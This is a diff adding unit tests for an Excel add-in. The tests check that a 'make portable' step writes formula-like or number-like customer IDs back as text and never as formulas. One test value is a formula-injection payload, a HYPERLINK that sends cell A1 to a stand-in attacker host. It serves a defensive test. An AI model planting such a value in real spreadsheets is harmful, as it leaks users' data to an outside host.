@@ -155,3 +155,58 @@ describe("Make portable in Excel (test double)", () => {
     expect(xl.sheet(UNDO_SHEET)).toBeUndefined();
   });
 });
+
+describe("Make portable writes data back as data, never as a formula", () => {
+  const HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+81-90-1234-5678",
+    "-A1*10",
+    "@SUM(A1:A9)",
+    "＝１＋２",
+    "00123",
+    "1/2",
+    "(500)",
+    "TRUE",
+    "#N/A",
+    "'quoted",
+    "1e5",
+  ];
+  const SPILL = [["customer", "orders"], ...HOSTILE.map((id, i) => [id, i + 1])];
+  const last = SPILL.length;
+
+  it("a CUSTOMER_SUMMARY spill whose customer ids look like formulas or numbers: each cell holds the id as text", async () => {
+    const xl = new FakeExcel({
+      Model: {
+        A1: {
+          formula: "=CUSTOMER_SUMMARY(Data!A:A,Data!B:B,Data!C:C)",
+          value: SPILL,
+          spill: `A1:B${last}`,
+        } as FakeCell,
+        D1: { formula: "=AVG_ORDER(Data!C:C)", value: "=1+1" } as FakeCell,
+      },
+    });
+    const ctx = xl.context();
+    await applyPortable(ctx, await scanPortable(ctx, "sheet"));
+    const cells = xl.sheet("Model")?.cells;
+    for (let i = 0; i < HOSTILE.length; i++) {
+      const c = cells?.get(`A${i + 2}`);
+      expect({ id: HOSTILE[i], formula: c?.formula, value: c?.value }).toEqual({
+        id: HOSTILE[i],
+        formula: undefined,
+        value: HOSTILE[i],
+      });
+      // the counts beside them stay numbers
+      expect(cells?.get(`B${i + 2}`)?.value).toBe(i + 1);
+    }
+    expect(cells?.get("D1")).toEqual({ value: "=1+1" });
+    expect([...(cells?.values() ?? [])].some((c) => c.formula)).toBe(false);
+  });
+
+  it("without the text mark the same spill would have turned into formulas (the model of Excel bites)", async () => {
+    const { typedText } = await import("./portable-fake");
+    expect(typedText(HOSTILE[0]).formula).toBe(HOSTILE[0]);
+    expect(typedText("+81-90-1234-5678").formula).toBe("=+81-90-1234-5678");
+    expect(typedText("@SUM(A1:A9)").formula).toBe("=SUM(A1:A9)");
+    expect(typedText("00123").value).toBe(123);
+  });
+});
